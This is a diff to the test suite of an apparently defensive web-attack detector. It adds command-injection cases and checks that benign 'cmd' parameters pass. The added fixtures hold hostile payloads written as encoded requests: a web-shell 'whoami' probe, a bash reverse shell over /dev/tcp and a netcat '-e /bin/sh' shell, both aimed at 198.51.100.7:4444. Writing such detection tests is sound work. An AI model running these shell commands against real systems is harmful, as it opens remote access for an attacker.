@@ -181,6 +181,10 @@ const PLACES: readonly [string, string, number, string, string][] = [
   ['CRLF injection in the query: a second Location', get('/redirect?url=http://a%0d%0aLocation:%20http://198.51.100.7/'), CRLF, 'query', 'url'],
   ["CRLF injection: wapiti's probe, encoded twice", get('/search?q=http%253A%2F%2Fwww.google.fr%250D%250Awapiti%253A%25203.0.4%2520version'), CRLF, 'query', 'q'],
   ['CRLF injection in a cookie: a whole response', get('/', 'Cookie: lang=en%0d%0a%0d%0aHTTP/1.1%20200%20OK\r\n'), CRLF, 'cookie', 'lang'],
+  ["a web shell's command parameter: whoami alone", get('/uploads/s.php?cmd=whoami'), CMDI, 'query', 'cmd'],
+  ["a debug API's command member in JSON: a command with arguments", post('application/json', '{"task":{"exec":"uname -a"}}'), CMDI, 'json', 'task.exec'],
+  ['a reverse shell with no separator, in a form field', post('application/x-www-form-urlencoded', 'host=bash+-i+%3E%26+%2Fdev%2Ftcp%2F198.51.100.7%2F4444+0%3E%261'), CMDI, 'body', 'host'],
+  ['netcat running a shell, the whole value of a query argument', get('/diag?target=nc%20198.51.100.7%204444%20-e%20%2Fbin%2Fsh'), CMDI, 'query', 'target'],
   ['CRLF injection as characters whose low byte is CR and LF (U+560D U+560A)', get('/?next=%E5%98%8D%E5%98%8ASet-Cookie:a=1'), CRLF, 'query', 'next'],
 ];
 
@@ -710,6 +714,18 @@ describe('web attacks across TCP segments', () => {
     // The first copy is inspected and only noted, the second inspected and kept (a value met once
     // is never kept); the two clean copies after that are hits, and so are the last three Hosts.
     assert.equal(stats.http_clean_cache_hits, 2 + 3);
+  });
+
+  it('reads a command parameter by its name even when its value was kept clean in another field', () => {
+    // `whoami` is clean as a search term (kept from its second sighting); as `cmd` it is a web shell's command.
+    const out = keepAlive(['/search?q=whoami', '/search?q=whoami', '/search?q=whoami', '/s.php?cmd=whoami'].map((t) => get(t)));
+    assert.deepEqual(seen(out.alerts), [[CMDI, 13, 'query', 'cmd', CLIENT]]);
+    assert.equal(out.alerts[0].metadata.rule[0], "whoami as the command parameter's value");
+  });
+
+  it("lets applications' action names in a cmd argument through (elFinder, PayPal) and a login shell setting", () => {
+    const targets = ['/connector?cmd=ls&target=l1_Lw', '/connector?cmd=rm&targets%5B%5D=l1_YS50eHQ', '/connector?cmd=chmod&mode=755', '/cgi-bin/webscr?cmd=_s-xclick&hosted_button_id=X7', '/admin/user?shell=%2Fbin%2Fbash&name=ann', '/run?cmd=search&q=cat+food'];
+    assert.deepEqual(seen(keepAlive(targets.map((t) => get(t))).alerts), []);
   });
 
   it('serves a value kept clean in a request that already raised an alert, and keeps none that such a request read in part', () => {
